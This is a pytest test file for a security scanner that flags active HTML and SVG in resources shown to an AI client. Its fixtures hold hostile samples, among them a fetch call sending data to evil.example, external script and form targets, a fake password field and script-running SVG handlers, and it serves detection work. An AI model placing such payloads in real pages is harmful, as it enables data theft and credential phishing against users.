"""Pages and pictures that act where a client shows them."""

from __future__ import annotations

from typing import Any

import pytest

from tests.layers.answers import answered, decided, rules
from vanguard.model.decision import Verdict


def page(text: str, uri: str = "ui://shop/cart", kind: str = "text/html") -> dict[str, Any]:
    """A resource with this text."""
    return {"result": {"contents": [{"uri": uri, "mimeType": kind, "text": text}]}}


@pytest.mark.parametrize(
    ("text", "rule", "verdict"),
    [
        ('<script>fetch("https://evil.example/?d=" + x)</script>', "active-page-reaches-out", Verdict.WARN),
        ('<script src="https://evil.example/a.js"></script>', "active-page-reaches-out", Verdict.WARN),
        ('<form action="https://evil.example/p"><input></form>', "active-page-reaches-out", Verdict.WARN),
        ("<script>window.parent.document.title</script>", "active-page-breaks-out", Verdict.BLOCK),
        ('<p>Sign in</p><input name="p" type="password">', "active-page-breaks-out", Verdict.BLOCK),
    ],
)
def test_a_page_that_acts_beyond_itself_is_found(text: str, rule: str, verdict: Verdict) -> None:
    decision = decided(page(text))
    assert decision.verdict is verdict
    assert rule in decision.because


@pytest.mark.parametrize(
    "picture",
    [
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        '<?xml version="1.0"?>\n<svg onload="go()"></svg>',
        '<svg><a href="javascript:go()"><text>x</text></a></svg>',
    ],
)
def test_a_picture_that_runs_script_warns(picture: str) -> None:
    assert "active-picture" in decided(page(picture, "file:///a.svg", "image/svg+xml")).because


@pytest.mark.parametrize(
    "body",
    [
        page("<h1>Cart</h1><script>document.querySelector('b').onclick = add</script>"),
        page('<svg viewBox="0 0 9 9"><path d="M0 0h9"/></svg>', "file:///a.svg", "image/svg+xml"),
        page('<script src="https://cdn.example/a.js"></script>', "https://site.example/"),
    ],
    ids=["page of its own", "picture", "fetched page"],
)
def test_what_acts_only_on_itself_or_is_only_read_passes(body: dict[str, Any]) -> None:
    assert not {rule for rule in rules(decided(body)) if rule.startswith("active-")}


def test_markup_in_a_text_is_text() -> None:
    text = "Use an svg: `<svg onload=...>` runs script."
    assert "active-picture" not in rules(answered(text))
